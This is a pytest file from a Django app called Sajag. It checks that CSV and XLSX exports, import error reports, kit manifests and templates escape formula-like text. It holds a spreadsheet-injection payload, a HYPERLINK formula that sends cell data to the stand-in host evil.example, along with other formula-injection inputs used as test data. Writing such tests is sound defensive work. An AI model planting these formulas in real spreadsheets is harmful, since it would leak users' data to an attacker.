"""Every spreadsheet Sajag writes keeps people's text as text: a cell such as
``=HYPERLINK("http://evil.example/?x="&A1,"click me")`` never comes back as a live formula (issue 14).
CSV cells get a leading apostrophe; XLSX cells are stored as strings, so they read back unchanged.
Numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from types import SimpleNamespace

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from sajag.activities import importing, jobs
from sajag.campaigns.models import Assignment, Directive
from sajag.core import cells
from sajag.materials import kits
from sajag.reports import data, render

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def assert_no_formula(xlsx: bytes) -> None:
    """Neither openpyxl nor the XML itself sees a formula in any sheet."""
    book = load_workbook(io.BytesIO(xlsx))
    for sheet in book.worksheets:
        formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
        assert not formulas, f"{sheet.title}: formulas in {formulas}"
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >/]", archive.read(name)), name


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (EVIL, "'" + EVIL),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1+1", "'  =1+1"),
        ("\n@x", "'\n@x"),
        ("-", "'-"),
        # Plain text and numbers written as text are left alone: a re-upload reads them back.
        ("Jaipur", "Jaipur"),
        ("जयपुर =", "जयपुर ="),
        ("a=b", "a=b"),
        ("-5", "-5"),
        ("+919829012345", "+919829012345"),
        ("-12.5", "-12.5"),
        ("", ""),
        # Only strings are escaped: numbers and other values stay what they are.
        (-5, -5),
        (3.5, 3.5),
        (None, None),
        (dt.date(2026, 10, 5), dt.date(2026, 10, 5)),
    ],
)
def test_safe_text_escapes_only_formula_like_strings(value, expected):
    assert cells.safe_text(value) == expected


def test_an_xlsx_row_keeps_text_as_text_and_numbers_as_numbers():
    book = Workbook()
    cells.append_row(book.active, [EVIL, "#N/A", "  @x", -5, 3.5, "-5"])
    out = io.BytesIO()
    book.save(out)
    assert_no_formula(out.getvalue())
    row = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    assert [(c.value, c.data_type) for c in row] == [
        (EVIL, "s"),
        ("#N/A", "s"),
        ("  @x", "s"),
        (-5, "n"),
        (3.5, "n"),
        ("-5", "s"),
    ]


def test_an_error_report_row_with_a_control_character_is_still_written():
    sheet = load_workbook(io.BytesIO(importing.write_xlsx([["Site"], ["Ajmeri\x01Gate\t"]], title="errors"))).active
    assert list(sheet.iter_rows(values_only=True))[1] == ("Ajmeri\ufffdGate\t",)


def test_the_import_writers_escape_formulas():
    rows = [["District", "Remarks", "Passers-by"], ["Jaipur", EVIL, -5]]
    assert_no_formula(importing.write_xlsx(rows, title="errors"))
    sheet = load_workbook(io.BytesIO(importing.write_xlsx(rows, title="errors"))).active
    assert list(sheet.iter_rows(values_only=True))[1] == ("Jaipur", EVIL, -5)
    text = importing.write_csv(rows).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text)))[1] == ["Jaipur", "'" + EVIL, "-5"]


@pytest.mark.django_db
def test_the_import_error_report_holds_the_uploaded_formula_as_text_and_can_be_sent_again(people):
    header = "District / जिला,City,Site / intersection,Latitude,Longitude,Size,Language,Installed on,Removed on"
    data = f'{header}\nJaipur,Jaipur,"{EVIL.replace(chr(34), chr(34) * 2)}",,,,kannada,2026-10-05,\n'.encode()
    job = jobs.start_import(directive=Directive.objects.get(number=1), by=people["dpro"], name="h.csv", data=data)
    assert job.state == "refused" and job.error_report
    report = job.error_report.read()
    assert_no_formula(report)
    rows = list(load_workbook(io.BytesIO(report)).active.iter_rows(values_only=True))
    assert rows[1][4] == EVIL  # the cell exactly as uploaded: nothing to strip before sending it again


def test_a_kit_manifest_escapes_formulas(monkeypatch):
    asset = SimpleNamespace(problems=[], channel="sms", lang="hi", link=EVIL)
    monkeypatch.setattr(kits, "entries", lambda studio, district: [kits.Entry("jaipur/hi/x", asset, ("txt",))])
    monkeypatch.setattr(kits, "export_all", lambda asset: {"txt": b"text"})
    out = io.BytesIO()
    kits.build(None, SimpleNamespace(code="jaipur"), out)
    with zipfile.ZipFile(out) as archive:
        manifest = list(csv.reader(io.StringIO(archive.read("jaipur/manifest.csv").decode())))
    assert manifest[1] == ["jaipur/hi/x.txt", "sms", "hi", "'" + EVIL]


@pytest.mark.django_db
def test_the_review_spreadsheet_holds_an_officers_formula_name_as_text(campaign, people):
    as_of = campaign.starts_on + dt.timedelta(days=20)
    people["dpro"].first_name, people["dpro"].last_name = EVIL, ""
    people["dpro"].save()
    late = Assignment.objects.get(directive__number=1, district__code="jaipur")
    late.due_on = as_of - dt.timedelta(days=4)
    late.save()
    xlsx = render.xlsx(data.collect(campaign, as_of=as_of), "en")
    assert_no_formula(xlsx)
    book = load_workbook(io.BytesIO(xlsx))
    overdue = list(book["Overdue"].iter_rows(min_row=2, values_only=True))
    assert (EVIL, 4) in [(row[0], row[5]) for row in overdue]
    changes = [row[4] for row in book["Summary"].iter_rows(min_row=2, values_only=True)]
    assert all(isinstance(c, int) for c in changes)  # numbers, negative ones included, stay numbers


@pytest.mark.django_db
def test_downloaded_templates_hold_no_formula(client, people):
    client.force_login(people["dpro"])
    xlsx = client.get(reverse("activities:import-template", args=["hoardings", "xlsx"]))
    assert xlsx.status_code == 200 and xlsx["Content-Type"] == XLSX
    assert_no_formula(xlsx.content)
    outcomes = client.get(reverse("reach:outcome-template"))
    assert outcomes.status_code == 200
    for row in csv.reader(io.StringIO(outcomes.content.decode("utf-8-sig"))):
        assert all(not cells.is_formula_like(c) for c in row)
